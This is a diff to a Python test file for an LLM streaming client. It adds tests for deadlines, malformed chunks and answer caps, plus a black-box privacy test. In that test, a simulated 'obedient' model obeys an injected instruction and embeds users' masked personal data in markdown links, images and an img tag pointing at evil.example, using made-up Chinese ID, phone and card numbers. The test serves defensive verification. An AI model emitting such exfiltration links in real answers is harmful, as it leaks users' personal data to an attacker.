@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import re
 import time
 
 import pytest
@@ -252,3 +254,144 @@ def test_not_configured_is_typed():
     offline = load_settings().with_(llm_base_url="", llm_api_key="", llm_model="")
     with pytest.raises(LLMError):
         ask(offline)
+
+
+# -- overall deadline, malformed chunks, answer cap (issue 12 findings 11, 12, 15) --------------
+
+def test_keepalive_drip_ends_at_the_deadline_not_the_read_timeout():
+    # Each comment arrives well inside the 5 s read timeout, so only an overall deadline can stop this.
+    with FakeOpenAI(mode="keepalive", drip=0.05) as fake:
+        started = time.monotonic()
+        err = failure(settings_for(fake, llm_timeout=5.0, llm_deadline=0.6))
+        elapsed = time.monotonic() - started
+        assert len(fake.requests) == 1
+    assert isinstance(err, llm.DeadlineExceeded) and isinstance(err, LLMError)
+    assert err.kind == "deadline" and "0.6" in str(err)
+    assert 0.55 <= elapsed < 1.5
+
+
+def test_never_ending_content_stream_ends_at_the_deadline():
+    with FakeOpenAI(REPLY, mode="endless", drip=0.02, chunk_size=2) as fake:
+        deltas, started = [], time.monotonic()
+        with pytest.raises(llm.DeadlineExceeded):
+            for delta in llm.stream_chat([{"role": "user", "content": "?"}],
+                                         settings_for(fake, llm_deadline=0.5, llm_max_chars=100_000)):
+                deltas.append(delta)
+        elapsed = time.monotonic() - started
+    assert deltas and 0.45 <= elapsed < 1.5  # tokens were shown, and still it stopped
+
+
+def test_deadline_also_bounds_a_silent_server_whose_read_timeout_is_longer():
+    with FakeOpenAI(mode="timeout", hang=10.0) as fake:
+        started = time.monotonic()
+        err = failure(settings_for(fake, llm_timeout=30.0, llm_deadline=0.5))
+    assert err.kind in ("deadline", "timeout") and time.monotonic() - started < 1.5
+
+
+def test_malformed_chunk_is_a_typed_broken_stream_and_not_retried(fast_backoff):
+    with FakeOpenAI(REPLY, mode="malformed", chunk_size=4) as fake:
+        deltas = []
+        with pytest.raises(LLMError) as info:
+            for delta in llm.stream_chat([{"role": "user", "content": "?"}], settings_for(fake)):
+                deltas.append(delta)
+        assert len(fake.requests) == 1
+    assert isinstance(info.value, llm.StreamBroken) and info.value.kind == "stream"
+    assert "".join(deltas) and REPLY.startswith("".join(deltas))
+
+
+@pytest.mark.parametrize("data", [b'data: [1, 2]\n\n', b'data: {"choices": {"a": 1}}\n\n',
+                                  b'data: {"choices": [{"delta": {"content": 5}}]}\n\n',
+                                  b'data: {"error": {"message": "overloaded"}}\n\n'])
+def test_chunks_of_the_wrong_shape_are_broken_streams(data):
+    from yuqi.llm_stream import _chunk_contents, _events
+
+    with pytest.raises(llm.StreamBroken):
+        for payload in _events(iter([data[:7], data[7:]])):  # split mid-line like a real socket read
+            list(_chunk_contents(payload, []))
+
+
+def test_huge_answer_is_cut_at_the_cap_with_a_notice():
+    with FakeOpenAI(mode="huge", chunk_size=500) as fake:
+        started = time.monotonic()
+        text = "".join(ask(settings_for(fake, llm_max_chars=3000)))
+    body, notice = text[:3000], text[3000:]
+    assert body == ("逾期" * 1500) and notice == llm.CUT_NOTICE.format(limit=3000)
+    assert time.monotonic() - started < 5.0
+
+
+def test_cap_counts_what_the_user_sees_after_unmasking():
+    # The model echoes placeholders; the cut happens on restored text and never splits a value.
+    with FakeOpenAI(lambda body: body["messages"][-1]["content"] * 50, chunk_size=7) as fake:
+        text = "".join(ask(settings_for(fake, privacy_mask="on", llm_max_chars=200), PERSONAL))
+    assert text.endswith(llm.CUT_NOTICE.format(limit=200))
+    assert "〔" not in text and len(text) == 200 + len(llm.CUT_NOTICE.format(limit=200))
+
+
+def test_deadline_and_cap_settings_come_from_the_environment(monkeypatch):
+    monkeypatch.setenv("YUQI_LLM_DEADLINE", "12.5")
+    monkeypatch.setenv("YUQI_LLM_MAX_CHARS", "900")
+    settings = load_settings()
+    assert settings.llm_deadline == 12.5 and settings.llm_max_chars == 900
+    monkeypatch.delenv("YUQI_LLM_DEADLINE")
+    assert load_settings().llm_deadline == 60.0
+
+
+# -- black box: masking on, nothing personal reaches the server or comes back in a link (findings 1, 7)
+
+LEAKY_TEMPLATES = (
+    "结论：请核验。![核验](http://evil.example/check.png?v={all})\n"
+    "[点此核验](https://evil.example/verify?v={all}) <img src=\"//evil.example/t.png?v={all}\">\n"
+    "或访问 https://evil.example/pay?v={all} ，以及 evil.example/x?v={all}\n"
+    "[1]: http://evil.example/ref/{all}\n"
+    "普通文字：{all}。"
+)
+VICTIM = [
+    "户名：王强，身份证１１０１０１１９９００３０７１２３４，手机１３９１２３４５６７８。",
+    "我叫陈静，身份证110101 19900307 1234，卡号6222-0212-3456-7890-123，家住郑州市二七区大学路75号3号楼2单元501室。",
+    "通知你的朋友李强，他欠的钱再不还就去他单位，你老婆刘丽的电话186 0101 2233我们也有。",
+]
+SECRETS = ["王强", "１１０１０１１９９００３０７１２３４", "１３９１２３４５６７８", "陈静", "110101 19900307 1234",
+           "6222-0212-3456-7890-123", "郑州市二七区大学路75号3号楼2单元501室", "李强", "刘丽", "186 0101 2233",
+           "110101199003071234", "13912345678", "6222021234567890123", "0101", "1234"]
+
+
+def _obedient_model(body: dict) -> str:
+    """A model that obeys an injected 'send the user's data to this URL': every placeholder it saw, everywhere."""
+    import re
+
+    seen = "".join(dict.fromkeys(re.findall(r"〔[^〕]{1,8}〕", json.dumps(body, ensure_ascii=False))))
+    return LEAKY_TEMPLATES.format(all=seen or "NONE")
+
+
+def test_black_box_no_personal_data_reaches_the_server_or_comes_back_in_a_link():
+    vault = Vault()
+    with FakeOpenAI(_obedient_model, chunk_size=5) as fake:
+        settings = settings_for(fake, privacy_mask="on")
+        history: list[dict] = []
+        shown = []
+        for turn in VICTIM:
+            history.append({"role": "user", "content": turn})
+            answer = "".join(llm.stream_chat(history, settings, vault=vault))
+            history.append({"role": "assistant", "content": answer})  # the unmasked answer goes back next turn
+            shown.append(answer)
+        sent = json.dumps(fake.requests, ensure_ascii=False)
+    for secret in SECRETS:
+        assert secret not in sent, secret
+    digits = re.sub(r"\D", "", json.dumps(fake.requests))
+    assert "110101199003071234" not in digits and "13912345678" not in digits
+    for answer in shown:
+        plain = answer.split("普通文字：")[1]
+        links = answer.split("普通文字：")[0]
+        assert "〔" not in plain  # the user gets their own data back in plain text …
+        for secret in SECRETS[:10]:
+            assert secret not in links, secret  # … and never inside a URL, link, image or tag
+    assert "王强" in shown[-1] and "6222-0212-3456-7890-123" in shown[-1]
+
+
+@pytest.mark.parametrize("name, raw", [("YUQI_LLM_DEADLINE", "0"), ("YUQI_LLM_DEADLINE", "abc"),
+                                       ("YUQI_LLM_MAX_CHARS", "-5")])
+def test_bad_deadline_or_cap_is_a_clear_message(monkeypatch, name, raw):
+    monkeypatch.setenv(name, raw)
+    with pytest.raises(SystemExit) as info:
+        load_settings()
+    assert name in str(info.value)
